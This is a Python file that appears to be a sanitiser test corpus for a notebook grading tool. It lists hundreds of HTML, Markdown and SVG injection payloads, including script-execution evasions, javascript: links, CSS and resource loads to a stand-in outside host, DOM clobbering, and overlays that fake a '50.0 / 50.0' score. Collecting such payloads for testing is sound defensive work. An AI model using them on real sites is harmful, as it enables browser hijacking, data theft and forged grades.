"""Ways to make a reader's browser run or fetch something, after the public lists of filter evasions.

Each form is text for one language. RUN stands for the code that is to run, OUT for an address outside.
"""

from __future__ import annotations

import base64

RUN, OUT = "@RUN@", "@OUT@"
B64 = base64.b64encode

HTML = {
    # event handlers
    "script": "<script>@RUN@</script>",
    "script_attributes": "<script/x src=data:,@RUN@></script>",
    "script_uppercase": "<ScRiPt>@RUN@</sCrIpT>",
    "script_nested": "<scr<script>ipt>@RUN@</scr</script>ipt>",
    "script_unclosed": "<script>@RUN@//",
    "script_from_outside": "<script src=@OUT@></script>",
    "script_module": "<script type=module>@RUN@</script>",
    "img_onerror": "<img src=x: onerror=@RUN@>",
    "img_slashes": "<img/src=x:/onerror=@RUN@>",
    "img_quotes": '<img """><img src=x: onerror="@RUN@">">',
    "img_newline": "<img src=x:\nonerror\n=\n@RUN@>",
    "img_formfeed": "<img\fsrc=x:\fonerror=@RUN@>",
    "img_entities": "<img src=x: onerror=&#112;&#x77;ned('img_entities')>",
    "img_no_space": '<img src="x:"onerror="@RUN@">',
    "comment_in_attribute": '<b title="<!--">x</b><img src=x: onerror=@RUN@><b title="-->">',
    "comment_in_value": '<p title="<!-- "><img title=" --><img src=x: onerror=@RUN@>">',
    "tag_in_attribute": "<a title='<b>' onmouseover=@RUN@ style='color:red'>points</a>",
    "body_onload": "<body onload=@RUN@>",
    "onclick": "<b onclick=@RUN@>points</b>",
    "onmouseover": "<b onmouseover=@RUN@>points</b>",
    "onfocus": "<input autofocus onfocus=@RUN@>",
    "onfocus_tabindex": "<b tabindex=0 autofocus onfocus=@RUN@>points</b>",
    "onpointer": "<b onpointerenter=@RUN@ onpointerover=@RUN@>points</b>",
    "contenteditable": "<b contenteditable onblur=@RUN@ onfocus=@RUN@>points</b>",
    "details_ontoggle": "<details open ontoggle=@RUN@>points</details>",
    "animation": "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=@RUN@>x</b>",
    "transition": "<b style='transition:color 1ms' ontransitionend=@RUN@ onclick=@RUN@>x</b>",
    "video": "<video><source onerror=@RUN@></video>",
    "audio": "<audio src=x: onerror=@RUN@></audio>",
    "marquee": "<marquee onstart=@RUN@>x</marquee>",
    "object_data": "<object data='data:text/html,<script>parent.@RUN@</script>'></object>",
    "embed": "<embed src='data:text/html,<script>parent.@RUN@</script>'>",
    "unknown_element": "<x-y onclick=@RUN@ tabindex=0 onfocus=@RUN@>points</x-y>",
    # addresses
    "javascript": "<a href=javascript:@RUN@>points</a>",
    "javascript_case": "<a href=JaVaScRiPt:@RUN@>points</a>",
    "javascript_tab": '<a href="java\tscript:@RUN@">points</a>',
    "javascript_newline": '<a href="java\nscr\r\nipt:@RUN@">points</a>',
    "javascript_entity": "<a href=java&#115;cript:@RUN@>points</a>",
    "javascript_long_entity": "<a href=java&#0000115cript:@RUN@>points</a>",
    "javascript_named_entity": "<a href=java&Tab;script&colon;@RUN@>points</a>",
    "javascript_control": '<a href="\x01\x02 javascript:@RUN@">points</a>',
    "javascript_nul": '<a href="java\0script:@RUN@">points</a>',
    "javascript_fragment": "<a href='javascript://%0a@RUN@'>points</a>",
    "vbscript": "<a href='vbscript:@RUN@'>points</a>",
    "data_html": "<a href='data:text/html,<script>opener.@RUN@</script>' target=_blank>points</a>",
    "relative_link": "<a href='/canary/relative_link'>points</a>",
    "area": "<map name=m><area href=javascript:@RUN@ shape=default></map><img usemap=#m src=x:>",
    "base": "<base href=@OUT@/><a href=x>points</a>",
    "form_action": "<form action=javascript:@RUN@><button>points</button></form>",
    "formaction": "<form><button formaction=javascript:@RUN@>points</button></form>",
    "form_outside": "<form action=@OUT@><input type=submit value=points></form>",
    "isindex": "<isindex type=image src=x: onerror=@RUN@>",
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.@RUN@</script>"></iframe>',
    "iframe_javascript": "<iframe src=javascript:parent.@RUN@></iframe>",
    "iframe_outside": "<iframe src=@OUT@></iframe>",
    "frameset": "<frameset onload=@RUN@><frame src=javascript:parent.@RUN@></frameset>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=@OUT@'>",
    "meta_javascript": "<meta http-equiv=refresh content='0;url=javascript:@RUN@'>",
    "link_stylesheet": "<link rel=stylesheet href=@OUT@>",
    "link_preload": "<link rel=preload as=image href=@OUT@><link rel=prefetch href=@OUT@>",
    "link_import": "<link rel=modulepreload href=@OUT@>",
    "picture_outside": "<img src=@OUT@>",
    "picture_same_origin": "<img src=/canary/picture_same_origin>",
    "srcset": "<img src=data:, srcset='@OUT@ 1x'>",
    "picture_source": "<picture><source srcset=@OUT@><img src=data:,></picture>",
    "background": "<table background=@OUT@><tr><td background=@OUT@>x</table>",
    "ping": "<a href='#' ping=@OUT@>points</a>",
    "input_image": "<input type=image src=@OUT@ onerror=@RUN@>",
    "video_poster": "<video poster=@OUT@></video>",
    # styles
    "style_import": "<style>@import '@OUT@';</style>",
    "style_background": "<b style='background:url(@OUT@)'>x</b>",
    "style_background_color": "<b style='background-color:red;background-image:url(@OUT@)'>x</b>",
    "style_escape": "<b style='background:\\75rl(@OUT@)'>x</b>",
    "style_font": "<style>@font-face{font-family:f;src:url(@OUT@)}b{font-family:f}</style><b>x</b>",
    "style_selector": "<style>h4{background:url(@OUT@)}</style>",
    "style_forges": "<style>h4{font-size:0!important}h4::after{content:'50.0 / 50.0'}</style>",
    "style_covers": "<b style='position:fixed;top:0;left:0;width:100%;height:50%;z-index:9999'>x</b>",
    "class_covers": "<div class='navbar navbar-fixed-top navbar-default'>50.0 / 50.0</div>",
    "class_modal": "<div class='modal-backdrop in'></div><div class='modal in'>50.0</div>",
    "style_negative": "<b style='display:block;margin-top:-9999px;background:white'>50.0 / 50.0</b>",
    "style_padding": "<span style='background-color:white;padding:99999px'>50.0 / 50.0</span>",
    "style_padding_percent": "<b style='background-color:white;padding:100%'>50.0 / 50.0</b>",
    "style_padding_exponent": "<b style='background-color:white;padding:9e9px'>50.0 / 50.0</b>",
    "style_padding_calc": "<b style='background-color:white;padding:calc(99px * 99)'>50.0</b>",
    "style_padding_viewport": "<b style='background-color:white;padding:99vh 99vw'>50.0</b>",
    "style_border": "<b style='border:99999px solid white'>50.0 / 50.0</b>",
    "style_overline": "<b style='text-decoration:overline 9999px white'>50.0 / 50.0</b>",
    "style_attribute_read": "<b title=@OUT@ style='background-color:attr(title)'>x</b>",
    "style_variable": "<b style='--x:url(@OUT@);background-color:var(--x)'>x</b>",
    "style_entity": "<b style='background:&#117;rl(@OUT@)'>x</b>",
    "style_comment": "<b style='back/**/ground:u/**/rl(@OUT@)'>x</b>",
    "style_nested": "<style><style>*{background:url(@OUT@)}</style></style>",
    "style_import_in_svg": "<svg><style>@import '@OUT@';</style></svg>",
    "style_input_leaks": "<style>input[value^='8']{background:url(@OUT@)}</style><input value=8.0>",
    # where parsers disagree
    "noscript": "<noscript><p title='</noscript><img src=x: onerror=@RUN@>'></noscript>",
    "title": "<title><a title='</title><img src=x: onerror=@RUN@>'></title>",
    "textarea": "<textarea><a title='</textarea><img src=x: onerror=@RUN@>'></textarea>",
    "xmp": "<xmp><a title='</xmp><img src=x: onerror=@RUN@>'></xmp>",
    "style_in_attribute": "<style><b title='</style><img src=x: onerror=@RUN@>'>",
    "noembed": "<noembed><img title='</noembed><img src=x: onerror=@RUN@>'></noembed>",
    "plaintext": "<plaintext><img src=x: onerror=@RUN@>",
    "select": "<select><template><img src=x: onerror=@RUN@></template></select>",
    "template": "<template><script>@RUN@</script></template><img src=x: onerror=@RUN@>",
    "comment_odd_start": "<!--><img src=x: onerror=@RUN@>-->",
    "comment_odd_end": "<!--x--!><img src=x: onerror=@RUN@>",
    "comment_bogus": "<!x --><img src=x: onerror=@RUN@>",
    "comment_php": "<?x <img src=x: onerror=@RUN@>",
    "cdata": "<svg><![CDATA[><image xlink:href=']]><img src=x: onerror=@RUN@>'></svg>",
    "closing_tag": "</x <img src=x: onerror=@RUN@>",
    "table_foster": "<table><tr><img src=x: onerror=@RUN@></tr></table>",
    "math_mglyph": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x:"
        " onerror=@RUN@&gt;'>"
    ),
    "math_form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=@RUN@></style>"
    ),
    "svg_style": "<svg></p><style><a id='</style><img src=x: onerror=@RUN@>'></svg>",
    "svg_title": "<svg><title><img title='</title><img src=x: onerror=@RUN@>'></svg>",
    "svg_foreign_object": "<svg><foreignObject><img src=x: onerror=@RUN@></foreignObject></svg>",
    "svg_onload": "<svg/onload=@RUN@>",
    "svg_desc": "<svg><desc><svg onload=@RUN@></svg></desc></svg>",
    "svg_use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='@RUN@'/>#x\"/></svg>",
    "svg_animate_link": (
        "<svg><a><animate attributeName=href values=javascript:@RUN@ /><text y=20>points</text></a></svg>"
    ),
    "svg_set": "<svg><set attributeName=x onbegin=@RUN@></svg>",
    "math_href": "<math><mrow href=javascript:@RUN@>points</mrow></math>",
    "xml_namespace": "<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>@RUN@</h:script></x>",
    "isolated_surrogate": "\ud800<img src=x: onerror=@RUN@>",
    "noscript_style": "<noscript><style></noscript><img src=x: onerror=@RUN@></style></noscript>",
    "table_math": (
        "<table><math><select><mi><style><!--</style><img title='--&gt;&lt;img src=x:"
        " onerror=@RUN@&gt;'>"
    ),
    "math_annotation": (
        "<math><annotation-xml encoding='text/html'><style><img src=x: onerror=@RUN@></style>"
        "</annotation-xml></math>"
    ),
    "svg_p_style": "<svg><p><style><g title='</style><img src=x: onerror=@RUN@>'></svg>",
    "nested_links": "<a href='https://example.org/'><table><a onclick=@RUN@ href=javascript:@RUN@>x",
    "deep_font": "<font color='<font' face=\"><img src=x: onerror=@RUN@>\">points</font>",
    "frame_by_name": "<a href='javascript:@RUN@' target=_self download>points</a>",
    "blob_link": "<a href='blob:@OUT@'>points</a><a href='filesystem:@OUT@'>points</a>",
    "view_source": "<a href='view-source:javascript:@RUN@'>points</a>",
    "popover": "<button popovertarget=p onclick=@RUN@>x</button><b id=p popover onbeforetoggle=@RUN@>x</b>",
    "dialog": "<dialog open onclose=@RUN@ onclick=@RUN@>50.0 / 50.0</dialog>",
    "slot": "<div><template shadowrootmode=open><img src=x: onerror=@RUN@></template></div>",
    "custom_scroll": "<div onscrollend=@RUN@ style='overflow:scroll'><b onclick=@RUN@>points</b></div>",
    "object_in_map": "<map name=main-table><area href=/canary/object_in_map></map>",
    "clobber_scripts": (
        "<a id=formgrader></a><a id=submission_id href=@OUT@></a><form id=MathJax><input name=Hub>"
    ),
    "clobber_document": "<img name=cookie><form name=body><input name=children></form>",
    "clobber": "<input id=check_double><b id=main-table class=nbgrader_cell>x</b><form name=cookie>",
}

MARKDOWN = {
    "md_link": "[points](javascript:@RUN@)",
    "md_link_case": "[points](JavaScript:@RUN@)",
    "md_link_entity": "[points](java&#115;cript:@RUN@)",
    "md_link_named": "[points](javascript&colon;@RUN@)",
    "md_link_tab": "[points](java&Tab;script:@RUN@)",
    "md_link_backslash": "[points](javascript\\:@RUN@)",
    "md_link_angle": "[points](<javascript:@RUN@>)",
    "md_link_space": "[points](  javascript:@RUN@)",
    "md_link_newline": "[points](\njavascript:@RUN@)",
    "md_link_title": "[points](https://example.org 'x\" onmouseover=\"@RUN@')",
    "md_link_data": "[points](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md_link_relative": "[points](/canary/md_link_relative)",
    "md_nested": "[a[points](javascript:@RUN@)](javascript:@RUN@)",
    "md_reference": "[points][r]\n\n[r]: javascript:@RUN@",
    "md_reference_angle": "[points][s]\n\n[s]: <javascript:@RUN@>",
    "md_reference_later": "[points][t]\n\n[t]:\n   java&#x73;cript:@RUN@",
    "md_reference_quote": "> [points][u]\n>\n> [u]: javascript:@RUN@",
    "md_reference_in_list": "- [points]\n\n  [points]: javascript:@RUN@",
    "md_autolink": "<javascript:@RUN@>",
    "md_autolink_entity": "<java&#115;cript:@RUN@>",
    "md_image": "![x](@OUT@)",
    "md_image_handler": '![x](x:"onerror="@RUN@)',
    "md_image_alt": '![x"onerror="@RUN@](https://example.org/x.png)',
    "md_image_reference": "![x][v]\n\n[v]: @OUT@",
    "md_image_shortcut": "![w]\n\n[w]: @OUT@",
    "md_image_in_link": "[![x](@OUT@)](javascript:@RUN@)",
    "md_image_svg": "![x](data:image/svg+xml,<svg/onload=@RUN@>)",
    "md_html_block": "<div\nonclick=@RUN@\n>\npoints\n</div>",
    "md_html_in_code": "`<img src=x: onerror=@RUN@>` ``<img src=x: onerror=@RUN@>",
    "md_html_in_fence": "```\n<img src=x: onerror=@RUN@>\n```\n<img src=x: onerror=@RUN@>",
    "md_fence_info": '```"><img src=x: onerror=@RUN@>\nx\n```',
    "md_html_in_math": "$<img src=x: onerror=@RUN@>$ $$</p><img src=x: onerror=@RUN@>$$",
    "md_math_environment": "\\begin{x}<img src=x: onerror=@RUN@>\\end{x}",
    "md_math_href": "$\\href{javascript:@RUN@}{points}$",
    "md_heading_id": '# check_double\n\n## <img src=x: onerror=@RUN@>\n\n# "onmouseover="@RUN@',
    "md_table": "|a|b|\n|-|-|\n|<img src=x: onerror=@RUN@>|[points](javascript:@RUN@)|",
    "md_mermaid_loose": (
        "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true, 'themeCSS': "
        "'@import url(@OUT@);'}}%%\nflowchart LR\nA[\"<img src='@OUT@' onerror=@RUN@>\"]\n"
        'click A call @RUN@\nclick A href "javascript:@RUN@"\n```'
    ),
    "md_mermaid_classes": '```mermaid\nclassDiagram\nclass A\nlink A "javascript:@RUN@"\n```',
    "md_math_require": "$\\require{html}\\href{javascript:@RUN@}{points}$",
    "md_math_style": "$\\style{position:fixed;top:0;background:url(@OUT@)}{points}$",
    "md_math_id": "$\\cssId{check_double}{x}\\class{navbar-fixed-top}{points}$",
    "md_math_picture": "$\\require{img}\\includegraphics{@OUT@}$ $\\unicode[x;background:url(@OUT@)]{65}$",
    "md_math_macro": "$\\def\\x{\\href{javascript:@RUN@}{points}}\\x$ $$\\url{javascript:@RUN@}$$",
    "md_math_box": "$\\bbox[red;background:url(@OUT@)]{points}$ $\\color{red;background:url(@OUT@)}{x}$",
    "md_math_style_only": "$\\style{background-image:url(@OUT@)}{x}$",
    "md_math_font": "$\\unicode[x;background:url(@OUT@)]{65}$",
    "md_math_img": "$\\includegraphics{@OUT@}$",
    "md_math_coded": (
        "&dollar;&bsol;unicode[x;background:url(@OUT@)]{65}&dollar; "
        "&#36;\\\\unic&#x6f;de[x;background:url(@OUT@)]{65}&#36; &#36&#92unicode[x;background:url(@OUT@)]{65}&#36"
    ),
    "md_math_of_html": "<b>$\\unicode[x;background:url(@OUT@)]{65}$</b> <b>$&bsol;unicode[x;background:url(@OUT@)]{65}$</b>",
    "md_math_let": "$\\let\\y\\unicode \\y[x;background:url(@OUT@)]{65}$ $\\newcommand{\\z}{\\unicode}\\z[x;background:url(@OUT@)]{65}$",
    "md_math_html": "$\\text{<img src=x: onerror=@RUN@>}$ $\\verb|<img src=x: onerror=@RUN@>|$",
    "md_footnote": "points[^1]\n\n[^1]: [points](javascript:@RUN@) <img src=x: onerror=@RUN@>",
    "md_task_list": "- [ ] [points](javascript:@RUN@)\n- [x] <input onfocus=@RUN@ autofocus>",
    "md_autolink_handler": 'https://example.org/"onmouseover="@RUN@" www.example.org/"onclick="@RUN@',
    "md_link_credentials": "[points](https://example.org@javascript:@RUN@)",
    "md_front_matter": "---\ntitle: <img src=x: onerror=@RUN@>\n---\n\n+++\n<script>@RUN@</script>\n+++",
    "md_definition": "term\n: <img src=x: onerror=@RUN@> [points](javascript:@RUN@)",
    "md_terminal": "\x1b]8;;javascript:@RUN@\x1b\\points\x1b]8;;\x1b\\ \x1b[1m<img src=x: onerror=@RUN@>",
    "md_comment": "<!-- a --!><img src=x: onerror=@RUN@> -->",
    "md_mermaid": '```mermaid\ngraph TD\nA["<img src=x: onerror=@RUN@>"]\nclick A "javascript:@RUN@"\n```',
    "md_attachment": "![x](attachment:x.png) [points](attachment:javascript:@RUN@)",
    "md_attachment_missing": "![x](attachment:missing.png)",
    "md_attachment_quote": '![x](attachment:x"onerror=@RUN@)',
    "md_entities": "&lt;img src=x: onerror=@RUN@&gt; \\<img src=x: onerror=@RUN@>",
    "md_escaped_bracket": "[points\\](javascript:@RUN@) [points]\\(javascript:@RUN@)",
}

_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="40" height="20">'
)
SVG = {
    "only_svg_script": f"{_OPEN}<script>@RUN@</script></svg>",
    "only_svg_onload": f'{_OPEN[:-1]} onload="@RUN@"><rect onclick="@RUN@" width="9" height="9"/></svg>',
    "only_svg_link": f'{_OPEN}<a xlink:href="javascript:@RUN@"><text y="9">points</text></a></svg>',
    "only_svg_image": f'{_OPEN}<image width="9" height="9" xlink:href="@OUT@"/></svg>',
    "only_svg_use": f'{_OPEN}<use xlink:href="@OUT@#x"/></svg>',
    "only_svg_style": f'{_OPEN}<style>@import "@OUT@"; *{{fill:url(@OUT@)}}</style><text>x</text></svg>',
    "only_svg_attribute": f'{_OPEN}<rect style="fill:url(@OUT@)" fill="url(@OUT@)" width="9"/></svg>',
    "only_svg_entity": '<!DOCTYPE svg [<!ENTITY x "<script>@RUN@</script>">]>'
    + _OPEN
    + "&x;</svg>",
    "only_svg_external": '<!DOCTYPE svg SYSTEM "@OUT@">' + _OPEN + "</svg>",
    "only_svg_stylesheet": '<?xml-stylesheet href="@OUT@"?>' + _OPEN + "</svg>",
    "only_svg_xhtml": (
        f'{_OPEN}<foreignObject><x:script xmlns:x="http://www.w3.org/1999/xhtml">@RUN@</x:script>'
        "</foreignObject></svg>"
    ),
    "only_svg_ends": f'{_OPEN}</svg><img src="x:" onerror="@RUN@"/>',
    "only_svg_covers": (
        f'{_OPEN[:-1]} style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">'
        '<rect width="999" height="999" fill="white"/></svg>'
    ),
    "only_svg_overflows": (
        f'{_OPEN[:-1]} style="overflow:visible;display:block;margin-top:-9999px" overflow="visible">'
        '<rect x="-999" y="-99999" width="9999" height="199999" fill="white"/></svg>'
    ),
    "only_svg_clobbers": (
        f'{_OPEN}<defs><path id="check_double"/><g id="main-table"/><g id="formgrader"/></defs></svg>'
    ),
    "only_svg_title": (
        f'{_OPEN}<title><style>*{{}}</style><svg style="position:fixed"><text style="position:fixed">'
        "50.0 / 50.0</text></svg></title></svg>"
    ),
    "only_svg_filter": f'{_OPEN}<rect style="filter:url(@OUT@#x);mask:url(@OUT@#y)" width="9"/></svg>',
    "only_svg_cursor": f'{_OPEN}<rect cursor="url(@OUT@)" style="cursor:url(@OUT@),auto"/></svg>',
    "only_svg_animates": (
        f'{_OPEN}<use xlink:href="#a"><animate attributeName="href" to="javascript:@RUN@" begin="0s"/>'
        '</use><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">@RUN@</handler></svg>'
    ),
    "only_svg_quote": '"><img src=x: onerror=@RUN@>',
}


def forms() -> dict[str, str]:
    """Every form by its name, with code and address that say who it was."""
    written = {**HTML, **MARKDOWN, **SVG}
    return {
        name: text.replace(RUN, f"pwned('{name}')").replace(OUT, f"https://outside.test/{name}")
        for name, text in written.items()
    }
